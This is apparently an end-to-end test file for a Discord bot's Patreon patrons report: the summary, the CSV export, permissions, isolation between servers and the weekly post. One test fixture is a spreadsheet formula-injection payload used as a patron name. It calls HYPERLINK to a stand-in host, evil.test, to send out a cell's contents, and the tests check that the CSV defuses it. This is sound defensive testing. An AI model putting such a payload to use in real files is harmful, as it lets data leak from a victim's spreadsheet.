"""`/patreon-admin patrons` end to end (issue 12, item 2): the summary, the CSV of every patron, the weekly post.

The real bot against the fakes; the report reads what the refresh stored, so running it costs Patreon nothing.
"""

from __future__ import annotations

import csv
import io
import re

from fakes.discord import InteractionRecord
from fakes.world import SEED, FakeWorld
from tests.e2e.polling import wait_for
from tests.e2e.test_admin import admin
from tests.e2e.test_campaign_two_servers import EVE as EVE_B
from tests.e2e.test_campaign_two_servers import OTHER as SERVER_B
from tests.e2e.test_campaign_two_servers import two_campaigns  # noqa: F401  (the fixture)
from tests.e2e.test_trust_servers import EVE, OTHER, world_with_other_server

EVIL_NAME = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'
E_MAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.]+")


def add_evil_patron(world: FakeWorld) -> None:
    """A paying patron who chose a spreadsheet formula as their Patreon name (and has an e-mail at Patreon)."""
    world.patreon.add_user("p-mallory", EVIL_NAME, email="mallory@evil.test")
    world.patreon.set_membership("p-mallory", patron_status="active_patron", tier_ids=[SEED.gold_tier])


async def run_report(world: FakeWorld, user: int = SEED.owner_id, guild: int = SEED.guild_id, **kwargs):
    """The text answered, the record, and the CSV attached (None when there was none)."""
    text = await admin(world, ["patrons"], user=user, guild=guild, **kwargs)
    record: InteractionRecord = world.discord.interactions[-1]
    files = [
        world.discord.uploads[int(attachment["id"])]
        for message in record.followups.values()
        for attachment in message.get("attachments") or []
    ]
    assert len(files) <= 1
    return text, record, files[0] if files else None


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


async def test_the_report_names_paying_patrons_who_have_not_linked_and_attaches_every_patron(world):
    await world.link(SEED.alice)
    add_evil_patron(world)
    await world.refresh()
    patreon_calls = len(world.patreon.calls)

    text, record, data = await run_report(world)

    assert record.ephemeral and data is not None
    assert len(world.patreon.calls) == patreon_calls, "the report reads the store, not Patreon"
    assert "Patrons of the campaign: 5" in text
    (unlinked,) = [line for line in text.splitlines() if "Paying but not linked here: 2**" in line]
    assert "Bob" in unlinked and "HYPERLINK" in unlinked and "Alice" not in unlinked
    assert "Linked members here: 1** (Gold: 1)" in text
    rows = {row["patreon_user_id"]: row for row in csv_rows(data)}
    assert set(rows) == {"p-alice", "p-bob", "p-carol", "p-dave", "p-mallory"}
    alice = rows["p-alice"]
    assert (alice["patreon_name"], alice["tier"], alice["status"]) == ("Alice", "Gold", "active")
    assert (alice["discord_account"], alice["discord_user_id"], alice["in_server"]) == ("alice", str(SEED.alice), "yes")
    assert alice["roles_here"] == "Gold Patron", "only the roles the policy manages, not the hand-given VIP"
    assert rows["p-bob"]["discord_user_id"] == "" and rows["p-bob"]["status"] == "active"
    assert rows["p-carol"]["status"] == "former" and rows["p-dave"]["status"] == "free member"


async def test_the_csv_holds_no_e_mail_and_no_formula(world):
    add_evil_patron(world)
    await world.refresh()
    assert any(user.email for user in world.patreon.state.users.values()), "Patreon does know e-mail addresses"

    _, _, data = await run_report(world)

    assert data is not None
    assert not E_MAIL.search(data.decode("utf-8-sig")), "no e-mail address in the CSV"
    (mallory,) = [row for row in csv_rows(data) if row["patreon_user_id"] == "p-mallory"]
    assert mallory["patreon_name"] == "'" + EVIL_NAME, "a spreadsheet reads it as text"
    for row in csv_rows(data):
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values()), row


async def test_grace_and_links_to_people_who_left_are_listed(world):
    await world.link(SEED.bob)
    await world.link(SEED.carol)
    world.patreon.set_membership(
        "p-bob", patron_status="declined_patron", tier_ids=[SEED.bronze_tier], last_charge_status="Declined"
    )
    await world.refresh()
    assert world.roles_of(SEED.bob) == {SEED.bronze_role}, "a declined payment keeps its roles for a while"
    world.guild.remove_member(SEED.carol)
    gateway = world.bot.services.gateway
    await wait_for(
        lambda: (
            gateway.knows_member(SEED.guild_id, SEED.carol)
            and gateway.cached_member_roles(SEED.guild_id, SEED.carol) is None
        )
    )

    text, _, data = await run_report(world)

    assert "Holding roles while the policy waits: 1**" in text and f"<@{SEED.bob}>:" in text
    assert f"Linked to someone no longer in this server: 1**: Carol (<@{SEED.carol}>)" in text
    assert data is not None
    rows = {row["patreon_user_id"]: row for row in csv_rows(data)}
    assert rows["p-carol"]["in_server"] == "no" and rows["p-bob"]["roles_here"] == "Bronze Patron"
    assert rows["p-bob"]["status"] == "declined"


async def test_members_without_manage_roles_get_no_report(world):
    text, _, data = await run_report(world, user=SEED.bob, bypass_default_permissions=True)
    assert "Manage Roles" in text and data is None


async def test_a_server_that_does_not_take_part_learns_nothing_of_the_patrons(tmp_path):
    world = await world_with_other_server(tmp_path, allowed=(SEED.guild_id,))
    try:
        text, _, data = await run_report(world, user=EVE, guild=OTHER)
        assert "isn't one of the creator's servers" in text
        assert data is None and "Alice" not in text and "Bob" not in text
    finally:
        await world.close()


def weekly_posts(world: FakeWorld) -> list[dict]:
    return [
        message
        for message in world.discord.channel_messages.get(SEED.log_channel, [])
        if message["content"].startswith("📋 Weekly patrons report")
    ]


async def restart_and_look(world: FakeWorld) -> None:
    """Restart the bot and wait until its weekly post has looked whether a server is due."""
    await world.stop_bot()
    await world.start_bot()
    assert world.bot is not None
    cog = world.bot.get_cog("WeeklyPatronsCog")
    assert cog is not None
    await wait_for(lambda: cog.looked.is_set(), timeout=10)


async def test_the_weekly_post_comes_once_a_week_even_across_restarts(world):
    from tests.e2e.test_report_audience import make_private  # the report goes only to a staff channel

    await make_private(world, SEED.log_channel)
    text = await admin(world, ["settings"], {"patrons_report_weekly": True})
    assert "Weekly patrons report in the log channel: on" in text
    await restart_and_look(world)
    assert len(weekly_posts(world)) == 1
    (post,) = weekly_posts(world)
    assert "Paying but not linked here: 2" in post["content"]
    (attachment,) = post["attachments"]
    assert attachment["filename"] == "patrons.csv"
    assert {row["patreon_user_id"] for row in csv_rows(world.discord.uploads[int(attachment["id"])])} >= {"p-alice"}

    await restart_and_look(world)
    world.clock.advance(days=6, hours=23)
    await restart_and_look(world)
    assert len(weekly_posts(world)) == 1, "not two in one week, whatever the restarts"

    world.clock.advance(hours=2)
    await restart_and_look(world)
    assert len(weekly_posts(world)) == 2, "a week later, the next one"


async def test_no_weekly_post_unless_the_server_asked_for_it(world):
    await restart_and_look(world)
    assert weekly_posts(world) == []


async def test_each_server_s_report_holds_only_its_own_campaign_s_patrons(two_campaigns):  # noqa: F811
    world = two_campaigns
    _, _, data_b = await run_report(world, user=EVE_B, guild=SERVER_B)
    _, _, data_a = await run_report(world)
    assert data_a is not None and data_b is not None
    assert {row["patreon_user_id"] for row in csv_rows(data_b)} == {"p-ben"}
    assert "p-ben" not in {row["patreon_user_id"] for row in csv_rows(data_a)}
    assert {"p-alice", "p-bob"} <= {row["patreon_user_id"] for row in csv_rows(data_a)}
